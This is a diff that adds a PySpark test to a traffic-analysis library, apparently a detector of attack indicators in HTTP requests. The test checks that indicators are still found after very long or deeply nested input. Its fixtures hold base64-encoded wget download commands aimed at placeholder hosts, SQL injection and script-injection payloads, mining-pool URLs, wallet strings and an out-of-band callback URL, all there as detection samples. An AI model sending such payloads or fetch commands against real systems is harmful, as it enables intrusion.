@@ -4,7 +4,7 @@ from pyspark.sql import functions as F
 
 from trafficlens import catalog_payloads
 from trafficlens.functions import decode, match
-from trafficlens.operators import attacks, contents, credentials, indicators
+from trafficlens.operators import actors, attacks, contents, credentials, indicators, sessions
 
 SCHEMA = "rid string, path string, raw_path string, raw_query string, headers array<array<string>>, body string, body_encoding string"
 
@@ -145,3 +145,31 @@ def test_findings_written_once(spark, monkeypatch):
     monkeypatch.setattr(contents, "small", lambda *_: False)
     large = catalog_payloads.enriched(spark, "/root/testdata/sf0.001").orderBy("event_id").drop("seq")
     assert small.columns == large.columns and small.toJSON().collect() == large.toJSON().collect()
+
+
+def test_no_indicator_is_cut(spark):
+    """Whatever number of pairs, URLs, pools, wallets, blobs, fields or characters comes first, what follows is found."""
+    blobs = " ".join(base64.b64encode(f"wget http://blob{i:02}.test/x -O /tmp/some-file".encode()).decode() for i in range(8))
+    long = "x" * 300_000
+    deep = '{"k": ' * 20 + '"<script>x</script>"' + "}" * 20
+    rows = [
+        request("links", query=" ".join(f"http://u{i:02}.test/a" for i in range(15))),
+        request("pools", query=" ".join(f"stratum+tcp://p{i:02}.test:1" for i in range(15))),
+        request("coins", body=" ".join(f"0x{i:040x}" for i in range(9))),
+        request("blobs", body=blobs),
+        request("pieces", query="&".join([*(f"a{i}=1" for i in range(250)), "z=1%20UNION%20SELECT%201"])),
+        request("fields", body="{" + ", ".join([*(f'"a{i}": 1' for i in range(250)), '"z": "<script>x</script>"']) + "}", ctype="application/json"),
+        request("deep", body=deep, ctype="application/json"),
+        request("nested", body="[" * 200_000 + '"<script>x</script>"' + "]" * 200_000, ctype="application/json"),
+        request("parts", body="".join(f'--X\r\nContent-Disposition: form-data; name="a{i}"\r\n\r\n{"<script>x</script>" if i == 249 else 1}\r\n' for i in range(250)) + "--X--", ctype="multipart/form-data; boundary=X"),
+        request("late", body=f"{long} <script>x</script> bissa_cve_boundary http://zz.oast.pro/a", ctype="text/plain"),
+    ]
+    asked = spark.createDataFrame(rows, SCHEMA)
+    found = contents.materialise(catalog_payloads.findings(asked)).withColumns({"kind": F.lit("request"), "actor": F.lit("A"), "body_sha256": F.lit(None).cast("string")})
+    tried = spark.range(130).select(F.lit("credential").alias("kind"), F.lit("A").alias("actor"), F.lit("u").alias("user"), F.concat(F.lit("p"), F.col("id").cast("string")).alias("password"), F.col("id").alias("seq"), F.timestamp_seconds("id").alias("ts"))
+    log = found.unionByName(tried, allowMissingColumns=True).withColumn("ip", F.lit(None).cast("string"))
+    got = {r.type: r.n for r in actors.indicators(sessions.sessions(log), sessions.credential_pairs(log)).groupBy("type").agg(F.count("*").alias("n")).collect()}
+    assert got == {"credential": 130, "url": 15 + 8 + 1, "domain": 15 + 8 + 1, "pool": 15, "wallet": 9, "tool": 1}
+    cls = {r.rid: {(a.cls, a.location) for a in r.attacks} for r in found.where("attacks is not null").collect()}
+    assert ("sqli", "query:z") in cls["pieces"] and ("xss", "body:z") in cls["fields"] and ("xss", "body:k") in cls["deep"] and ("xss", "body:a249") in cls["parts"]
+    assert ("xss", "body") in cls["nested"] and ("xss", "body") in cls["late"]
